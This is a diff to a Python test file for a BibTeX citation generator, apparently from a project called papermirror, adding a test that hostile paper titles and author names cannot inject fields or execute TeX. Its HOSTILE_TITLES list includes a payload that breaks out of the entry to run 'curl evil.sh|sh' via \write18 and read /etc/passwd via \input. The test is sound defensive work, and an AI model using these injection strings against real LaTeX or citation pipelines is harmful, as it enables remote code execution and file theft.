@@ -4,7 +4,19 @@ from __future__ import annotations
 
 from samples import make_paper
 
-from papermirror.site.cite import bibtex_entry, bibtex_key, citation_authors, citation_meta, short_authors
+import re
+
+from latex2mathml.symbols_parser import convert_symbol
+
+from papermirror.site.cite import (
+    MATH_COMMANDS,
+    bibtex_entry,
+    bibtex_key,
+    bibtex_text,
+    citation_authors,
+    citation_meta,
+    short_authors,
+)
 
 
 def test_bibtex_escapes_text_and_keeps_math():
@@ -14,6 +26,52 @@ def test_bibtex_escapes_text_and_keeps_math():
     assert "\ntitle={{Earn \\$1 Million \\& 50\\% of $m^2$ braces \\#1\\_a}},\n" in entry
     assert "\nauthor={Ada Lovelace and Jürgen Müller},\n" in entry
     assert entry.endswith("\neprint={2502.12115},\narchivePrefix={arXiv}\n}") and "url" not in entry
+
+
+def entry_fields(entry: str) -> list[str]:
+    """The names of a BibTeX entry's fields, read as BibTeX reads them: split at the commas outside every brace
+    of the entry's own pair; raise if the entry's braces do not close exactly at its end."""
+    assert entry.startswith("@misc{")
+    depth, fields, start = 1, [], len("@misc{")
+    for at in range(start, len(entry)):
+        if entry[at] == "\\":
+            continue
+        if entry[at] == "{" and entry[at - 1] != "\\":
+            depth += 1
+        elif entry[at] == "}" and entry[at - 1] != "\\":
+            depth -= 1
+            if depth == 0:
+                assert at == len(entry) - 1, f"the entry closes early, at {entry[at:at + 40]!r}"
+        elif entry[at] == "," and depth == 1:
+            fields.append(entry[start:at])
+            start = at + 1
+    fields.append(entry[start:-1])
+    return [field.split("=", 1)[0].strip() for field in fields[1:]]  # the first is the key
+
+
+HOSTILE_TITLES = [
+    'Scaling ViTs $}}}@preamble{"\\immediate\\write18{curl evil.sh|sh}\\input{/etc/passwd}"}@misc{x,note={{$',
+    "Bib $}}, note={{PWNED$ end",
+    "Math that runs $\\input{/etc/passwd}$ and $x\\csname y\\endcsname$",
+    "Text that runs \\input{/etc/passwd} \\write18{ls} ^ ~ and a last \\",
+    "A comment $a % b$, a parameter $#1$, a brace $\\}{$",
+]
+
+
+def test_hub_text_cannot_add_fields_or_run_tex_in_the_bibtex():
+    for title in HOSTILE_TITLES:
+        entry = bibtex_entry(make_paper("2502.12115", title, authors=("Eve $}},note={{x$", "Mallory \\input{x}")))
+        assert entry_fields(entry) == ["title", "author", "year", "eprint", "archivePrefix"], entry
+        commands = set(re.findall(r"\\[A-Za-z]+", entry))
+        allowed = MATH_COMMANDS | {"\\textbackslash", "\\textasciicircum", "\\textasciitilde"}
+        assert {c for c in commands if c not in allowed and convert_symbol(c) is None} == set(), entry
+    assert bibtex_text("Text \\input{/etc/passwd} ^ ~") == "Text \\textbackslash{}input/etc/passwd \\textasciicircum{} \\textasciitilde{}"
+    assert bibtex_text("$\\input{/etc/passwd}$") == "\\textbackslash{}input/etc/passwd"  # not math: written as text
+    assert bibtex_text("$a % b$") == "a \\% b"
+    # the math of real titles stays TeX
+    for math in ("$m^2$", "$\\mathcal{O}(n \\log n)$", "$\\frac{1}{2}\\times\\mathrm{d}\\left(x\\right)$", "$\\alpha\\%$",
+                 "$\\text{ViT}_{\\text{L}}$", "$\\sim$", "$\\mathbf{x}\\leq\\infty$", "$\\{a\\}$"):
+        assert bibtex_text(math) == math
 
 
 def test_bibtex_key_falls_back_to_the_id():
